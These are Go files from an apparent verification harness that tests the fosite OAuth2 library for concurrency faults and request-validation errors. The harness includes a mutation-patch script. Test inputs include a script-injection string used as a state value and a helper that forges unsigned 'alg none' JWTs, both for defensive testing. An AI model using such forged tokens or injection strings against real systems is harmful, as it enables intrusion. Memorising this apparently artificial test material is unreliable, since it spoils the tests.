			return tok(w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {c.code}, "redirect_uri": {redirectURI}}, w.BasicFor("A"), h.TokenOpts{}))
		}},
		{"refresh", func(w *h.World, c *c19State) []string {
			return tok(w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {c.refresh}}, w.BasicFor("A"), h.TokenOpts{}))
		}},
		{"revoke-refresh", func(w *h.World, c *c19State) []string {
			w.Revoke(url.Values{"token": {c.refresh}}, w.BasicFor("A"))
			return nil
		}},
		{"revoke-access", func(w *h.World, c *c19State) []string {
			w.Revoke(url.Values{"token": {c.access}}, w.BasicFor("A"))
			return nil
		}},
		{"introspect", func(w *h.World, c *c19State) []string {
			w.IntrospectEndpoint(url.Values{"token": {c.refresh}}, w.BasicFor("A"))
			w.IntrospectEndpoint(url.Values{"token": {c.access}}, w.BasicFor("A"))
			return nil
		}},
		{"device-poll", func(w *h.World, c *c19State) []string {
			return tok(w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {c.device}}, w.BasicFor("A"), h.TokenOpts{}))
		}},
		{"par-use", func(w *h.World, c *c19State) []string {
			w.Authorize(url.Values{"client_id": {"A"}, "request_uri": {c.par}}, h.Consent{})
			return nil
		}},
	}
}

var revokingSteps = map[string]bool{"RevokeAccessToken": true, "RevokeRefreshToken": true, "RotateRefreshToken": true, "DeleteAccessTokenSession": true, "DeleteRefreshTokenSession": true, "Rollback": true}

func TestC19_Interleavings(t *testing.T) {
	h.SetProperty("C19")
	selfTest(t)
	ops := c19Ops()
	si, sn := shardInfo()
	maxRuns := 1500
	if Tier() == "thorough" {
		maxRuns = 200000
	}
	type pair struct {
		a, b  int
		third int
		store string
	}
	var pairs []pair
	for _, store := range []string{"mem", "tx"} {
		for a := 0; a < len(ops); a++ {
			for b := a; b < len(ops); b++ {
				pairs = append(pairs, pair{a, b, -1, store})
			}
		}
	}
	// sampled triples
	for i, tr := range [][3]int{{1, 2, 3}, {2, 2, 4}, {1, 1, 5}, {2, 3, 5}} {
		pairs = append(pairs, pair{tr[0], tr[1], tr[2], []string{"mem", "tx"}[i%2]})
	}
	for pi, p := range pairs {
		if pi%sn != si {
			continue
		}
		sel := []c19Op{ops[p.a], ops[p.b]}
		if p.third >= 0 {
			sel = append(sel, ops[p.third])
		}
		var names []string
		for _, o := range sel {
			names = append(names, o.name)
		}
		minted := map[string]bool{}
		runs, exhausted := h.ExploreSchedules(maxRuns, func(choose func([]int) int) {
			w, st := c19Setup(p.store)
			results := make([][]string, len(sel))
			fns := make([]func(), len(sel))
			for i := range sel {
				i := i
				fns[i] = func() { results[i] = sel[i].run(w, st) }
			}
			s, stuck := h.RunSchedule(w, fns, choose)
			desc := fmt.Sprintf("ops=%v store=%s storage-step order=%v", names, p.store, s.Trace)
			if stuck {
				h.Violate(t, "C19/stuck-schedule", "an operation never reached its next storage step (deadlock): %s", desc)
				return
			}
			if len(s.Panics) > 0 {
				h.Violate(t, "C19/panic", "panic: %v; %s", s.Panics, desc)
			}
			if w.Tx != nil && w.Tx.InTx() {
				w.Tx.Abort()
			}
			alternates := false
			for j := 2; j < len(s.Trace); j++ {
				if s.Trace[j][0] == s.Trace[j-2][0] && s.Trace[j][0] != s.Trace[j-1][0] {
					alternates = true
				}
			}
			h.Case("sched/"+strings.Join(names, "+")+"/"+p.store+"/"+strings.Join(s.Trace, ","), alternates, func() any {
				return map[string]any{"engine": "interleavings", "operations": names, "store": p.store, "storage_step_order": s.Trace}
			})
			// every token handed to a caller is active, or was invalidated by a step of another operation
			for i, toks := range results {
				for _, tk := range toks {
					val := tk[2:]
					if minted[val] {
						h.Violate(t, "C19/token-minted-twice", "the same token value was handed out twice: %s", desc)
					}
					use := fosite.AccessToken
					if tk[0] == 'r' {
						use = fosite.RefreshToken
					}
					if w.IntrospectDirect(val, use).Active {
						continue
					}
					invalidatedByOther := false
					for _, step := range s.Trace {
						parts := strings.SplitN(step, ":", 2)
						if parts[0] != fmt.Sprint(i) && revokingSteps[parts[1]] {
							invalidatedByOther = true
						}
					}
					if !invalidatedByOther {
						h.Violate(t, "C19/returned-token-inactive", "operation %s returned a token that is inactive although no concurrent operation performed an invalidating storage step: %s", sel[i].name, desc)
					}
				}
			}
			for _, toks := range results {
				for _, tk := range toks {
					minted[tk[2:]] = true
				}
			}
		})
		h.LabelN("schedules/"+strings.Join(names, "+")+"/"+p.store, runs)
		if p.third < 0 {
			h.SetExhaustive("all interleavings of "+strings.Join(names, "+")+" on "+p.store, exhausted)
		}
	}
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// Engine 3: free-running stress under the race detector.

func TestC19_RaceStress(t *testing.T) {
	h.SetProperty("C19")
	selfTest(t)
	dur := 6 * time.Second
	if Tier() == "thorough" {
		dur = 60 * time.Second
	}
	si, _ := shardInfo()
	minimal := si%2 == 1
	jwtAccess := (si/2)%2 == 1
	h.ClockReset()
	var w *h.World
	if minimal {
		// default-constructed configuration: only what has no default
		w = h.NewWorld(h.Spec{JWTAccess: jwtAccess, Minimal: true})
	} else {
		// fully populated configuration; client keys published at a jwks_uri are fetched and cached by the library's
		// own fetcher (in-process transport)
		w = h.NewWorld(h.Spec{JWTAccess: jwtAccess, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.JWKSFetcherStrategy = fosite.NewDefaultJWKSFetcherStrategy(fosite.JWKSFetcherWithHTTPClient(c.HTTPClient))
		}})
		jset := &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(1), "kid-1", "RS256")}}
		doc, _ := jsonMarshal(jset)
		w.Docs["https://rp.example/jwks/J"] = string(doc)
		jc := &fosite.DefaultOpenIDConnectClient{DefaultClient: &fosite.DefaultClient{ID: "J", GrantTypes: []string{"client_credentials"}, Scopes: []string{"a"}},
			TokenEndpointAuthMethod: "private_key_jwt", TokenEndpointAuthSigningAlgorithm: "RS256", JSONWebKeysURI: "https://rp.example/jwks/J"}
		w.AddClient(jc, "")
	}
	hash := func(s string) []byte {
		if minimal {
			b, _ := bcrypt.GenerateFromPassword([]byte(s), 4)
			return b
		}
		return w.HashSecret(s)
	}
	for _, id := range []string{"A", "B"} {
		cl := stdClient(id, false)
		cl.Secret = hash("secret-" + id)
		w.AddClient(cl, "secret-"+id)
	}
	w.AddUser("peter", "pw")
	var shared struct {
		sync.Mutex
		refresh, access, codes, devices, pars []string
	}
	put := func(l *[]string, v string) {
		if v == "" {
			return
		}
		shared.Lock()
		*l = append(*l, v)
		if len(*l) > 64 {
			*l = (*l)[len(*l)-64:]
		}
		shared.Unlock()
	}
	get := func(l *[]string, i int) string {
		shared.Lock()
		defer shared.Unlock()
		if len(*l) == 0 {
			return ""
		}
		return (*l)[i%len(*l)]
	}
	var nOps, nPanics int64
	var firstPanic atomic.Value
	stop := time.Now().Add(dur)
	var wg sync.WaitGroup
	worker := func(g int) {
		defer wg.Done()
		i := g * 7919
		for time.Now().Before(stop) {
			i++
			func() {
				defer func() {
					if r := recover(); r != nil {
						atomic.AddInt64(&nPanics, 1)
						firstPanic.Store(fmt.Sprint(r))
					}
				}()
				client := []string{"A", "B"}[i%2]
				auth := h.Auth{BasicUser: client, BasicPass: "secret-" + client}
				// several goroutines presenting the *same* credential at the same instant
				burst := func(n int, f func()) {
					var start, fin sync.WaitGroup
					start.Add(1)
					for k := 0; k < n; k++ {
						fin.Add(1)
						go func() {
							defer fin.Done()
							defer func() {
								if r := recover(); r != nil {
									atomic.AddInt64(&nPanics, 1)
									firstPanic.Store(fmt.Sprint(r))
								}
							}()
							start.Wait()
							f()
						}()
					}
					start.Done()
					fin.Wait()
				}
				if !minimal && i%23 == 22 {
					// private_key_jwt with keys from the jwks_uri: known kid (served from the cache) or an unknown kid,
					// which makes the library refresh the cached key set while other requests are reading it
					kid, key := "kid-1", h.RSAKey(1)
					if i%2 == 0 {
						kid, key = fmt.Sprintf("kid-rotated-%d", i), h.RSAKey(2)
					}
					now := h.Now()
					a := h.MustSignJWT(key, "RS256", kid, map[string]interface{}{"iss": "J", "sub": "J", "aud": h.TokenURL, "jti": fmt.Sprintf("stress-%d-%d", g, i), "exp": now.Add(300e9).Unix(), "iat": now.Unix()})
					w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}, "client_assertion_type": {assertionType}, "client_assertion": {a}}, h.Auth{}, h.TokenOpts{})
					atomic.AddInt64(&nOps, 1)
					return
				}
				switch i % 19 {
				case 14:
					pr := w.PAR(url.Values{"client_id": {client}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline a"}}, auth)
					if pr.RequestURI != "" {
						burst(3, func() {
							ar := w.Authorize(url.Values{"client_id": {client}, "request_uri": {pr.RequestURI}}, h.Consent{})
							put(&shared.codes, ar.Code+"|"+client)
						})
					}
				case 15:
					ar := w.Authorize(url.Values{"client_id": {client}, "response_type": {"code id_token"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline openid a"}, "nonce": {"nonce-0123456789"}}, h.Consent{})
					if ar.Code != "" {
						burst(3, func() {
							tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {ar.Code}, "redirect_uri": {redirectURI}}, auth, h.TokenOpts{})
							put(&shared.refresh, tr.Refresh)
							put(&shared.access, tr.Access)
						})
					}
				case 16:
					tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, auth, h.TokenOpts{Session: h.NewSess("")})
					if tr.Refresh != "" {
						burst(3, func() {
							t2 := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {tr.Refresh}}, auth, h.TokenOpts{})
							put(&shared.refresh, t2.Refresh)
							put(&shared.access, t2.Access)
						})
					}
				case 17:
					dr := w.DeviceAuth(url.Values{"client_id": {client}, "scope": {"openid offline a"}}, auth, h.Consent{})
					if dr.DeviceCode != "" {
						w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-d")}, dr.DeviceCode)
						burst(3, func() {
							t2 := w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {dr.DeviceCode}}, auth, h.TokenOpts{})
							put(&shared.refresh, t2.Refresh)
							put(&shared.access, t2.Access)
						})
					}
				case 18:
					tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, auth, h.TokenOpts{Session: h.NewSess("")})
					if tr.Access != "" {
						k := int64(0)
						burst(4, func() {
							switch atomic.AddInt64(&k, 1) % 4 {
							case 0:
								w.Revoke(url.Values{"token": {tr.Access}}, auth)
							case 1:
								w.Revoke(url.Values{"token": {tr.Refresh}}, auth)
							case 2:
								w.IntrospectEndpoint(url.Values{"token": {tr.Access}}, auth)
							default:
								w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {tr.Refresh}}, auth, h.TokenOpts{})
							}
						})
					}
				case 9:
					dr := w.DeviceAuth(url.Values{"client_id": {client}, "scope": {"openid offline a"}}, auth, h.Consent{})
					if dr.DeviceCode != "" {
						w.DeviceDecide(dr.UserCode, i%3 != 0, h.Consent{Session: h.NewSess("user-d")}, dr.DeviceCode)
						put(&shared.devices, dr.DeviceCode+"|"+client)
					}
				case 10:
					c := get(&shared.devices, i)
					if p := strings.SplitN(c, "|", 2); len(p) == 2 && p[0] != "" {
						tr := w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {p[0]}}, h.Auth{BasicUser: p[1], BasicPass: "secret-" + p[1]}, h.TokenOpts{})
						put(&shared.refresh, tr.Refresh)
						put(&shared.access, tr.Access)
					}
				case 11:
					pr := w.PAR(url.Values{"client_id": {client}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline a"}}, auth)
					put(&shared.pars, pr.RequestURI+"|"+client)
				case 12:
					c := get(&shared.pars, i)
					if p := strings.SplitN(c, "|", 2); len(p) == 2 && p[0] != "" {
						ar := w.Authorize(url.Values{"client_id": {p[1]}, "request_uri": {p[0]}}, h.Consent{})
						put(&shared.codes, ar.Code+"|"+p[1])
					}
				case 13:
					ar := w.Authorize(url.Values{"client_id": {client}, "response_type": {"code id_token token"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline openid a"}, "nonce": {"nonce-0123456789"}}, h.Consent{})
					put(&shared.codes, ar.Code+"|"+client)
					put(&shared.access, ar.Access)
					w.IntrospectEndpoint(url.Values{"token": {get(&shared.refresh, i)}}, h.Auth{Bearer: get(&shared.access, i+5)})
				case 0:
					ar := w.Authorize(url.Values{"client_id": {client}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline openid a"}, "nonce": {"nonce-0123456789"}}, h.Consent{})
					put(&shared.codes, ar.Code+"|"+client)
				case 1:
					c := get(&shared.codes, i)
					if p := strings.SplitN(c, "|", 2); len(p) == 2 && p[0] != "" {
						tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {p[0]}, "redirect_uri": {redirectURI}}, h.Auth{BasicUser: p[1], BasicPass: "secret-" + p[1]}, h.TokenOpts{})
						put(&shared.refresh, tr.Refresh)
						put(&shared.access, tr.Access)
					}
				case 2, 3:
					tr := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {get(&shared.refresh, i)}}, auth, h.TokenOpts{})
					put(&shared.refresh, tr.Refresh)
					put(&shared.access, tr.Access)
				case 4:
					w.IntrospectEndpoint(url.Values{"token": {get(&shared.refresh, i)}, "token_type_hint": {"refresh_token"}}, auth)
					w.IntrospectEndpoint(url.Values{"token": {get(&shared.access, i)}}, auth)
				case 5:
					w.Revoke(url.Values{"token": {get(&shared.refresh, i+3)}}, auth)
				case 6:
					tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, auth, h.TokenOpts{Session: h.NewSess("")})
					put(&shared.refresh, tr.Refresh)
					put(&shared.access, tr.Access)
				case 7:
					tr := w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}}, auth, h.TokenOpts{})
					put(&shared.access, tr.Access)
				case 8:
					w.Revoke(url.Values{"token": {get(&shared.access, i+1)}}, auth)
				}
				atomic.AddInt64(&nOps, 1)
			}()
		}
	}
	nG := 8
	for g := 0; g < nG; g++ {
		wg.Add(1)
		go worker(g)
	}
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(dur + 60*time.Second):
		h.Violate(t, "C19/stress-deadlock", "stress workers did not finish %v after the deadline (deadlock?)", 60*time.Second)
	}
	if nPanics > 0 {
		h.Violate(t, "C19/stress-panic", "%d panics during stress, first: %v", nPanics, firstPanic.Load())
	}
	h.CaseN(int(nOps))
	h.Case(fmt.Sprintf("stress/minimal=%v/jwt=%v", minimal, jwtAccess), true, func() any {
		return map[string]any{"engine": "race-stress", "default_constructed_config": minimal, "jwt_access_tokens": jwtAccess, "goroutines": nG, "api_operations": nOps, "seconds": dur.Seconds()}
	})
	h.LabelN(fmt.Sprintf("stress-ops/minimal=%v", minimal), int(nOps))
	h.MarkCompleted()
}

// TestC19_AtomicHammer: operations whose sequential specification allows
// exactly one winner are fired simultaneously by several goroutines, many
// rounds: SetClientAssertionJWT / MarkJWTUsedForTime on one jti.
func TestC19_AtomicHammer(t *testing.T) {
	h.SetProperty("C19")
	selfTest(t)
	rounds := 4000
	if Tier() == "thorough" {
		rounds = 60000
	}
	s := storage.NewMemoryStore()
	ctx := context.Background()
	const nG = 8
	for r := 0; r < rounds; r++ {
		jti := fmt.Sprintf("hammer-%d", r)
		var wins int64
		var start, done sync.WaitGroup
		start.Add(1)
		for g := 0; g < nG; g++ {
			done.Add(1)
			go func(g int) {
				defer done.Done()
				start.Wait()
				var err error
				if g%2 == 0 {
					err = s.SetClientAssertionJWT(ctx, jti, h.Now().Add(time.Hour))
				} else {
					err = s.MarkJWTUsedForTime(ctx, jti, h.Now().Add(time.Hour))
				}
				if err == nil {
					atomic.AddInt64(&wins, 1)
				}
			}(g)
		}
		start.Done()
		done.Wait()
		if wins != 1 {
			h.Violate(t, "C19/jti-marking-not-atomic", "%d goroutines marked the same jti simultaneously and %d of them succeeded (round %d)", nG, wins, r)
		}
	}
	h.CaseN(rounds)
	h.Case("hammer/jti", true, func() any {
		return map[string]any{"engine": "atomic-hammer", "operation": "SetClientAssertionJWT / MarkJWTUsedForTime on one jti", "goroutines": nG, "rounds": rounds}
	})
	h.Case("hammer/jti/2", true, nil)
	h.MarkCompleted()
}
