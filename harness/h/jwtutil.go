package h

import (
	"crypto/ecdsa"
	"crypto/rsa"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/go-jose/go-jose/v3"
)

// SignJWT signs claims as a compact JWS with go-jose. key is a private key
// (*rsa.PrivateKey, *ecdsa.PrivateKey) or []byte for HS*.
func SignJWT(key interface{}, alg string, kid string, claims map[string]interface{}, extraHeader map[string]interface{}) (string, error) {
	opts := (&jose.SignerOptions{}).WithType("JWT")
	if kid != "" {
		opts = opts.WithHeader("kid", kid)
	}
	for k, v := range extraHeader {
		opts = opts.WithHeader(jose.HeaderKey(k), v)
	}
	signer, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.SignatureAlgorithm(alg), Key: key}, opts)
	if err != nil {
		return "", err
	}
	payload, err := json.Marshal(claims)
	if err != nil {
		return "", err
	}
	obj, err := signer.Sign(payload)
	if err != nil {
		return "", err
	}
	return obj.CompactSerialize()
}

// MustSignJWT panics on error (generator bugs, not findings).
func MustSignJWT(key interface{}, alg string, kid string, claims map[string]interface{}) string {
	s, err := SignJWT(key, alg, kid, claims, nil)
	if err != nil {
		panic(fmt.Sprintf("SignJWT(%s): %v", alg, err))
	}
	return s
}

// UnsignedJWT builds header.payload.signature by hand (alg none, forged parts).
func UnsignedJWT(header, claims map[string]interface{}, sig string) string {
	hb, _ := json.Marshal(header)
	cb, _ := json.Marshal(claims)
	return base64.RawURLEncoding.EncodeToString(hb) + "." + base64.RawURLEncoding.EncodeToString(cb) + "." + sig
}

// DecodeJWT returns header and claims of a compact JWT without verifying it.
func DecodeJWT(tok string) (map[string]interface{}, map[string]interface{}, error) {
	p := strings.Split(tok, ".")
	if len(p) != 3 {
		return nil, nil, fmt.Errorf("not a compact JWT: %d parts", len(p))
	}
	var hd, cl map[string]interface{}
	hb, err := base64.RawURLEncoding.DecodeString(p[0])
	if err != nil {
		return nil, nil, err
	}
	cb, err := base64.RawURLEncoding.DecodeString(p[1])
	if err != nil {
		return nil, nil, err
	}
	if err := json.Unmarshal(hb, &hd); err != nil {
		return nil, nil, err
	}
	if err := json.Unmarshal(cb, &cl); err != nil {
		return nil, nil, err
	}
	return hd, cl, nil
}

// VerifyJWT verifies a compact JWS with the given public key and returns the
// header alg and the claims.
func VerifyJWT(tok string, pub interface{}) (string, map[string]interface{}, error) {
	obj, err := jose.ParseSigned(tok)
	if err != nil {
		return "", nil, err
	}
	payload, err := obj.Verify(pub)
	if err != nil {
		return "", nil, err
	}
	var cl map[string]interface{}
	if err := json.Unmarshal(payload, &cl); err != nil {
		return "", nil, err
	}
	alg := ""
	if len(obj.Signatures) > 0 {
		alg = obj.Signatures[0].Header.Algorithm
	}
	return alg, cl, nil
}

// PublicJWK wraps a public key as a JWK with use=sig.
func PublicJWK(priv interface{}, kid, alg string) jose.JSONWebKey {
	var pub interface{}
	switch k := priv.(type) {
	case *rsa.PrivateKey:
		pub = &k.PublicKey
	case *ecdsa.PrivateKey:
		pub = &k.PublicKey
	default:
		pub = priv
	}
	return jose.JSONWebKey{Key: pub, KeyID: kid, Algorithm: alg, Use: "sig"}
}
