module verifharness

go 1.23

toolchain go1.23.5

require (
	github.com/anishathalye/porcupine v1.3.0
	github.com/dgraph-io/ristretto v1.0.0
	github.com/go-jose/go-jose/v3 v3.0.3
	github.com/hashicorp/go-retryablehttp v0.7.7
	github.com/mohae/deepcopy v0.0.0-20170929034955-c48cc78d4826
	github.com/ory/fosite v0.0.0
	golang.org/x/crypto v0.31.0
	golang.org/x/net v0.33.0
	pgregory.net/rapid v1.3.0
)

require (
	github.com/asaskevich/govalidator v0.0.0-20230301143203-a9d515a09cc2 // indirect
	github.com/cenkalti/backoff/v4 v4.3.0 // indirect
	github.com/cespare/xxhash/v2 v2.3.0 // indirect
	github.com/cristalhq/jwt/v4 v4.0.2 // indirect
	github.com/davecgh/go-spew v1.1.1 // indirect
	github.com/dustin/go-humanize v1.0.1 // indirect
	github.com/felixge/httpsnoop v1.0.4 // indirect
	github.com/go-logr/logr v1.4.2 // indirect
	github.com/go-logr/stdr v1.2.2 // indirect
	github.com/gobuffalo/pop/v6 v6.1.1 // indirect
	github.com/gogo/protobuf v1.3.2 // indirect
	github.com/google/uuid v1.6.0 // indirect
	github.com/grpc-ecosystem/grpc-gateway/v2 v2.23.0 // indirect
	github.com/hashicorp/go-cleanhttp v0.5.2 // indirect
	github.com/openzipkin/zipkin-go v0.4.3 // indirect
	github.com/ory/go-convenience v0.1.0 // indirect
	github.com/ory/x v0.0.677 // indirect
	github.com/pkg/errors v0.9.1 // indirect
	github.com/pmezard/go-difflib v1.0.0 // indirect
	github.com/seatgeek/logrus-gelf-formatter v0.0.0-20210414080842-5b05eb8ff761 // indirect
	github.com/sirupsen/logrus v1.9.3 // indirect
	github.com/stretchr/testify v1.9.0 // indirect
	go.opentelemetry.io/contrib/instrumentation/net/http/httptrace/otelhttptrace v0.57.0 // indirect
	go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp v0.57.0 // indirect
	go.opentelemetry.io/contrib/propagators/b3 v1.32.0 // indirect
	go.opentelemetry.io/contrib/propagators/jaeger v1.32.0 // indirect
	go.opentelemetry.io/contrib/samplers/jaegerremote v0.26.0 // indirect
	go.opentelemetry.io/otel v1.32.0 // indirect
	go.opentelemetry.io/otel/exporters/jaeger v1.17.0 // indirect
	go.opentelemetry.io/otel/exporters/otlp/otlptrace v1.32.0 // indirect
	go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp v1.32.0 // indirect
	go.opentelemetry.io/otel/exporters/zipkin v1.32.0 // indirect
	go.opentelemetry.io/otel/metric v1.32.0 // indirect
	go.opentelemetry.io/otel/sdk v1.32.0 // indirect
	go.opentelemetry.io/otel/trace v1.32.0 // indirect
	go.opentelemetry.io/proto/otlp v1.3.1 // indirect
	go.uber.org/mock v0.5.0 // indirect
	golang.org/x/oauth2 v0.23.0 // indirect
	golang.org/x/sys v0.28.0 // indirect
	golang.org/x/text v0.21.0 // indirect
	google.golang.org/genproto/googleapis/api v0.0.0-20241104194629-dd2ea8efbc28 // indirect
	google.golang.org/genproto/googleapis/rpc v0.0.0-20241104194629-dd2ea8efbc28 // indirect
	google.golang.org/grpc v1.67.1 // indirect
	google.golang.org/protobuf v1.35.1 // indirect
	gopkg.in/yaml.v3 v3.0.1 // indirect
)

replace github.com/ory/fosite => /repo
