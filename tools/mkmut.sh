#!/bin/bash
# usage: tools/mkmut.sh <out.diff> <file> <perl-substitution> [<file> <subst> ...] — build a patch by editing /repo in place, then revert.
set -u
out="$(realpath -m "$1")"; shift
cd /repo || exit 2
if [ -n "$(git status --porcelain)" ]; then echo "repo not clean"; exit 2; fi
while [ $# -ge 2 ]; do
  perl -0pi -e "$2" "$1"; shift 2
done
git diff > "$out"
git checkout -- .
if [ ! -s "$out" ]; then echo "EMPTY PATCH"; exit 1; fi
grep -c '^[-+][^-+]' "$out"
