package props

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"testing"

	"github.com/dgraph-io/ristretto"
	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C13 — authorization requests are validated and tokens never travel in the query string.

func setOf(s string) string {
	m := map[string]bool{}
	for _, f := range strings.Fields(s) {
		m[f] = true
	}
	var l []string
	for k := range m {
		l = append(l, k)
	}
	sort.Strings(l)
	return strings.Join(l, " ")
}

var c13States = []string{"", "1234", "12345678901", "123456789012", "1234567890123456789", "12345678901234567890", " padded-state-012345 ", "tab\tand-newline-012345\n", "short", "1234567", "12345678", "state-0123456789", "a&b=c#d %+é/?", "st ate+plus%2Bpct", "<script>alert(1)</script>x", "\"quoted'state\""}

// c13ModeExt is an operator's response-mode extension: "web_message", rendered like a fragment response.
type c13ModeExt struct{}

func (c13ModeExt) ResponseModes() fosite.ResponseModeTypes {
	return fosite.ResponseModeTypes{fosite.ResponseModeType("web_message")}
}
func (c13ModeExt) WriteAuthorizeResponse(_ context.Context, rw http.ResponseWriter, ar fosite.AuthorizeRequester, resp fosite.AuthorizeResponder) {
	u := *ar.GetRedirectURI()
	u.Fragment = ""
	rw.Header().Set("Location", u.String()+"#"+resp.GetParameters().Encode())
	rw.WriteHeader(http.StatusSeeOther)
}
func (c13ModeExt) WriteAuthorizeError(_ context.Context, rw http.ResponseWriter, ar fosite.AuthorizeRequester, err error) {
	if !ar.IsRedirectURIValid() {
		// nothing trustworthy to redirect to: render the error to the user agent, as the library does
		rw.Header().Set("Content-Type", "application/json;charset=UTF-8")
		rw.WriteHeader(fosite.ErrorToRFC6749Error(err).CodeField)
		_, _ = rw.Write([]byte(`{"error":"` + fosite.ErrorToRFC6749Error(err).ErrorField + `"}`))
		return
	}
	u := *ar.GetRedirectURI()
	u.Fragment = ""
	v := fosite.ErrorToRFC6749Error(err).ToValues()
	v.Set("state", ar.GetState())
	rw.Header().Set("Location", u.String()+"#"+v.Encode())
	rw.WriteHeader(http.StatusSeeOther)
}

func TestC13_AuthorizeValidation(t *testing.T) {
	h.SetProperty("C13")
	selfTest(t)
	combos := []string{"code", "token", "id_token", "code token", "code id_token", "id_token token", "code id_token token", "token code", "id_token code"}
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		// the operator's minimum length for state and nonce (0: the library default of 8)
		minParam := rapid.SampledFrom([]int{0, 0, 0, 5, 12, 20}).Draw(rt, "minParameterEntropy")
		minLen := minParam
		if minLen == 0 {
			minLen = 8
		}
		// the operator may have installed a response-mode extension offering "web_message"
		modeExt := rapid.IntRange(0, 2).Draw(rt, "responseModeExtension") == 0
		// where the clients' keys come from: inline JWKS, or jwks_uri documents fetched (and cached) by the library's own
		// fetcher over an in-process transport
		keySource := rapid.SampledFrom([]string{"inline", "inline", "jwks_uri"}).Draw(rt, "keySource")
		var jwksCache *ristretto.Cache[string, *jose.JSONWebKeySet]
		if keySource == "jwks_uri" {
			jwksCache, _ = ristretto.NewCache(&ristretto.Config[string, *jose.JSONWebKeySet]{NumCounters: 1000, MaxCost: 100, BufferItems: 64, Cost: func(*jose.JSONWebKeySet) int64 { return 1 }})
			defer jwksCache.Close()
		}
		w := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.MinParameterEntropy = minParam
			if modeExt {
				c.ResponseModeHandlerExtension = c13ModeExt{}
			}
			if keySource == "jwks_uri" {
				c.JWKSFetcherStrategy = fosite.NewDefaultJWKSFetcherStrategy(fosite.JWKSFetcherWithHTTPClient(c.HTTPClient), fosite.JWKSFetcherWithCache(jwksCache))
			}
		}})
		if modeExt {
			h.Label("response-mode-extension")
		}
		h.Label(fmt.Sprintf("min-parameter-entropy=%d", minParam))
		// ---- registration
		cl := stdClient("c13", rapid.IntRange(0, 3).Draw(rt, "public") == 0)
		if cl.Public {
			cl.TokenEndpointAuthMethod = "none"
		} else {
			cl.Secret = w.HashSecret("s13")
		}
		cl.ResponseTypes = nil
		for _, c := range combos {
			if rapid.IntRange(0, 2).Draw(rt, "reg:"+c) == 0 {
				cl.ResponseTypes = append(cl.ResponseTypes, c)
			}
		}
		if len(cl.ResponseTypes) == 0 {
			cl.ResponseTypes = []string{"code"}
		}
		cl.GrantTypes = nil
		for _, g := range []string{"authorization_code", "implicit", "refresh_token"} {
			if rapid.IntRange(0, 3).Draw(rt, "grant:"+g) != 0 {
				cl.GrantTypes = append(cl.GrantTypes, g)
			}
		}
		modesRegistered := map[string]bool{}
		for _, m := range []fosite.ResponseModeType{fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost, fosite.ResponseModeType("web_message")} {
			if rapid.Bool().Draw(rt, "mode:"+string(m)) {
				cl.ResponseModes = append(cl.ResponseModes, m)
				modesRegistered[string(m)] = true
			}
		}
		regAlg := rapid.SampledFrom([]string{"", "", "RS256", "none", "ES256"}).Draw(rt, "requestObjectAlg")
		cl.RequestObjectSigningAlgorithm = regAlg
		cl.JSONWebKeys = &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(1), "rsa-1", "RS256"), h.PublicJWK(h.ECKey("P-256"), "ec-1", "ES256")}}
		cl.RequestURIs = []string{"https://rp.example/request.jwt"}
		// a second client whose key must not be usable for c13
		other := stdClient("other13", false)
		other.Secret = w.HashSecret("x")
		// (its key id is the same as c13's: key ids are chosen by the clients and say nothing about whose key it is)
		other.JSONWebKeys = &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(2), "rsa-1", "RS256")}}
		if keySource == "jwks_uri" {
			// the two key sets are published at URIs that are different strings but easy to confuse
			uris := rapid.SampledFrom([][2]string{
				{"https://rp.example/keys?tenant=a", "https://rp.example/keys?tenant=b"},
				{"https://rp.example/tenants/Acme/jwks.json", "https://rp.example/tenants/acme/jwks.json"},
			}).Draw(rt, "jwksURIs")
			for i, oc := range []*h.HClient{cl, other} {
				doc, _ := jsonMarshal(oc.JSONWebKeys)
				w.Docs[uris[i]] = string(doc)
				oc.JSONWebKeys = nil
				oc.JSONWebKeysURI = uris[i]
			}
			h.Label("keys-from-jwks_uri")
		}
		w.AddClient(cl, "s13")
